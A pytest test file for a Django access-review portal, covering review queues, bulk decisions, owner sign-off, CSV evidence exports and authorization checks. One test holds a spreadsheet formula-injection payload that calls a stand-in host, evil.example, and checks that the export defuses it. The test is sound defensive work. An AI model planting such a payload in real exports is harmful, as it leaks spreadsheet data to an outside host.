"""The review pages: the queue with filters and bulk decisions, and the owner's campaign page."""

from datetime import timedelta

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from access.models import Grant
from iam.models import UnmanagedAccess
from reviews import services
from reviews.models import Campaign, ReviewItem
from tests.conftest import tasks_queued


@pytest.fixture
def launched(cast, sandbox):
    for person in (cast.alice, cast.carol):
        Grant.objects.create(user=person, entitlement=sandbox.developers, source=Grant.Source.ADMIN)
    Grant.objects.create(user=cast.alice, entitlement=sandbox.breakglass, source=Grant.Source.ADMIN)
    cast.carol.manager = cast.bob
    cast.carol.employment_status = cast.carol.EmploymentStatus.LEAVER
    cast.carol.save()
    campaign = Campaign.objects.create(
        name="Q4 review", owner=cast.erin, fallback_reviewer=cast.dave, due_at=timezone.now() + timedelta(days=14)
    )
    return services.launch(campaign_id=campaign.pk, actor=cast.erin)


def as_person(person) -> Client:
    client = Client()
    client.force_login(person)
    return client


def test_the_queue_shows_my_items_with_progress_and_filters(cast, launched):
    client = as_person(cast.bob)

    page = client.get(reverse("reviews:queue", args=[launched.pk])).content.decode()
    high = client.get(reverse("reviews:queue", args=[launched.pk]), {"risk": "high"}).content.decode()

    assert "0 of 3 decided" in page and "The holder has left" in page
    assert "Break-glass admins" in high and "Developers" not in high
    assert as_person(cast.dave).get(reverse("reviews:queue", args=[launched.pk])).status_code == 404


def test_accepting_recommendations_then_keeping_all_that_match(cast, launched):
    client = as_person(cast.bob)
    url = reverse("reviews:decide", args=[launched.pk])

    client.post(url, {"action": "accept", "all_matching": "1"})
    client.post(url, {"action": "keep", "all_matching": "1"})

    decisions = dict(ReviewItem.objects.values_list("holder__email", "decision"))
    assert decisions == {"carol@example.com": "revoke", "alice@example.com": "keep"}
    carol = ReviewItem.objects.get(holder=cast.carol)
    assert carol.comment == "Recommendation accepted: The holder has left"


def test_revoking_without_a_comment_is_refused(cast, launched):
    item = ReviewItem.objects.filter(holder=cast.alice).first()

    response = as_person(cast.bob).post(
        reverse("reviews:decide", args=[launched.pk]), {"action": "revoke", "items": [item.pk]}
    )

    assert response.status_code == 400
    assert "Say why the access should be revoked." in response.content.decode()
    assert ReviewItem.objects.get(pk=item.pk).decision == "undecided"


def test_the_owner_signs_off_and_sees_remediation(cast, launched):
    bob = as_person(cast.bob)
    item = ReviewItem.objects.get(holder=cast.carol)
    bob.post(reverse("reviews:decide", args=[launched.pk]), {"action": "revoke", "items": [item.pk], "comment": "left"})

    assert as_person(cast.bob).post(reverse("reviews:sign_off", args=[launched.pk])).status_code == 403
    as_person(cast.erin).post(reverse("reviews:sign_off", args=[launched.pk]))
    page = as_person(cast.erin).get(reverse("reviews:campaign", args=[launched.pk])).content.decode()

    assert "Removal pending" in page
    assert 'id="decisions-data"' in page and '"revoke": 1' in page
    assert Grant.objects.get(user=cast.carol).desired == "absent"


def test_the_queue_runs_the_same_queries_for_10_and_1000_items(cast, sandbox, django_user_model):
    def queue_queries(count):
        people = django_user_model.objects.bulk_create(
            django_user_model(
                email=f"q{count}-{n}@example.com", full_name=f"Q {n}", manager=cast.bob, department=f"D{count}"
            )
            for n in range(count)
        )
        Grant.objects.bulk_create(Grant(user=p, entitlement=sandbox.developers, source="import") for p in people)
        campaign = Campaign.objects.create(
            name=f"C{count}",
            owner=cast.erin,
            fallback_reviewer=cast.dave,
            due_at=timezone.now() + timedelta(days=1),
            departments=[f"D{count}"],
        )
        services.launch(campaign_id=campaign.pk, actor=cast.erin)
        client = as_person(cast.bob)
        with CaptureQueriesContext(connection) as queries:
            assert client.get(reverse("reviews:queue", args=[campaign.pk])).status_code == 200
        return len(queries)

    assert queue_queries(10) == queue_queries(1000)


def test_the_evidence_pack_lists_every_decision_with_the_snapshot(cast, launched):
    item = ReviewItem.objects.get(holder=cast.carol)
    as_person(cast.bob).post(
        reverse("reviews:decide", args=[launched.pk]), {"action": "revoke", "items": [item.pk], "comment": "left"}
    )
    as_person(cast.erin).post(reverse("reviews:sign_off", args=[launched.pk]))

    response = as_person(cast.erin).get(reverse("reviews:evidence", args=[launched.pk]))

    lines = b"".join(response.streaming_content).decode().splitlines()
    assert lines[0].startswith("campaign,snapshot_at,population_count,population_sha256,holder")
    assert len(lines) == 1 + 3
    carol = next(line for line in lines if "carol@example.com" in line)
    assert launched.population_hash in carol and ",revoke,left,bob@example.com," in carol
    assert ",pending,Erin Admin," in carol
    assert as_person(cast.bob).get(reverse("reviews:evidence", args=[launched.pk])).status_code == 403


def test_a_comment_a_spreadsheet_would_run_as_a_formula_is_quoted_in_the_evidence(cast, launched):
    item = ReviewItem.objects.get(holder=cast.carol)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    as_person(cast.bob).post(
        reverse("reviews:decide", args=[launched.pk]), {"action": "revoke", "items": [item.pk], "comment": formula}
    )

    response = as_person(cast.erin).get(reverse("reviews:evidence", args=[launched.pk]))

    carol = next(line for line in b"".join(response.streaming_content).decode().splitlines() if "carol@" in line)
    assert ",\"'=HYPERLINK(" in carol and ',"=HYPERLINK(' not in carol


def test_unmanaged_access_of_no_portal_person_is_a_line_like_the_others(cast, sandbox):
    now = timezone.now()
    UnmanagedAccess.objects.create(
        account=sandbox.account,
        kind="iam_group",
        aws_principal="mallory",
        aws_name="Developers",
        entitlement=sandbox.developers,
        first_seen=now,
        last_seen=now,
    )
    campaign = Campaign.objects.create(
        name="Drift", owner=cast.erin, fallback_reviewer=cast.dave, due_at=timezone.now() + timedelta(days=14)
    )
    services.launch(campaign_id=campaign.pk, actor=cast.erin)
    carol = as_person(cast.carol)

    page = carol.get(reverse("reviews:queue", args=[campaign.pk])).content.decode()
    assert 'data-testid="item-mallory-Developers"' in page and "AWS principal, no portal person" in page
    assert "Unmanaged: in AWS with no grant" in page
    item = ReviewItem.objects.get(campaign=campaign)
    carol.post(
        reverse("reviews:decide", args=[campaign.pk]), {"action": "revoke", "items": [item.pk], "comment": "unknown"}
    )
    as_person(cast.erin).post(reverse("reviews:sign_off", args=[campaign.pk]))

    summary = as_person(cast.erin).get(reverse("reviews:campaign", args=[campaign.pk])).content.decode()
    assert 'data-testid="revoked-mallory"' in summary and "Removal pending" in summary
    assert "1 item (1 unmanaged: in AWS with no grant)" in summary


def test_someone_with_no_lines_decides_nothing(cast, launched):
    ids = list(ReviewItem.objects.filter(campaign=launched).values_list("pk", flat=True))

    response = as_person(cast.dave).post(
        reverse("reviews:decide", args=[launched.pk]), {"action": "keep", "items": ids}
    )

    assert response.status_code == 404
    assert set(ReviewItem.objects.values_list("decision", flat=True)) == {"undecided"}


@pytest.mark.parametrize("to", ["carol@example.com", "nobody@example.com"])
def test_someone_else_cannot_reassign_a_line_nor_learn_who_is_in_the_portal(cast, launched, to):
    item = ReviewItem.objects.get(holder=cast.alice, entitlement__name="Developers")

    response = as_person(cast.dave).post(reverse("reviews:reassign", args=[item.pk]), {"to": to, "reason": "mine"})

    # Not his line: answered as a line that does not exist.
    assert response.status_code == 404 and "email address" not in response.content.decode()
    assert ReviewItem.objects.get(pk=item.pk).reviewer == cast.bob


def test_the_reviewer_is_told_when_nobody_has_the_address(cast, launched):
    item = ReviewItem.objects.get(holder=cast.alice, entitlement__name="Developers")

    response = as_person(cast.bob).post(
        reverse("reviews:reassign", args=[item.pk]), {"to": "nobody@example.com", "reason": "moved"}
    )

    assert response.status_code == 400
    assert "Nobody active in the portal has that email address." in response.content.decode()
    assert ReviewItem.objects.get(pk=item.pk).reviewer == cast.bob


def test_only_the_owner_or_a_governance_admin_launches(cast):
    draft = Campaign.objects.create(name="Draft", owner=cast.erin, due_at=timezone.now() + timedelta(days=14))

    with tasks_queued() as queued:
        response = as_person(cast.bob).post(reverse("reviews:launch", args=[draft.pk]))

    assert response.status_code == 404 and queued == [], "Bob has no part in the draft: as if it did not exist"
    assert Campaign.objects.get(pk=draft.pk).state == "draft"


def test_a_governance_admin_who_does_not_own_the_campaign_does_not_sign_it_off(cast, sandbox):
    Grant.objects.create(user=cast.alice, entitlement=sandbox.developers, source=Grant.Source.ADMIN)
    campaign = Campaign.objects.create(
        name="Dave's", owner=cast.dave, fallback_reviewer=cast.erin, due_at=timezone.now() + timedelta(days=14)
    )
    services.launch(campaign_id=campaign.pk, actor=cast.dave)
    erin = as_person(cast.erin)

    page = erin.get(reverse("reviews:campaign", args=[campaign.pk])).content.decode()
    response = erin.post(reverse("reviews:sign_off", args=[campaign.pk]))

    assert (
        "Sign off" not in page
        and "Sign off" in as_person(cast.dave).get(reverse("reviews:campaign", args=[campaign.pk])).content.decode()
    )
    assert response.status_code == 403 and Campaign.objects.get(pk=campaign.pk).state == "active"
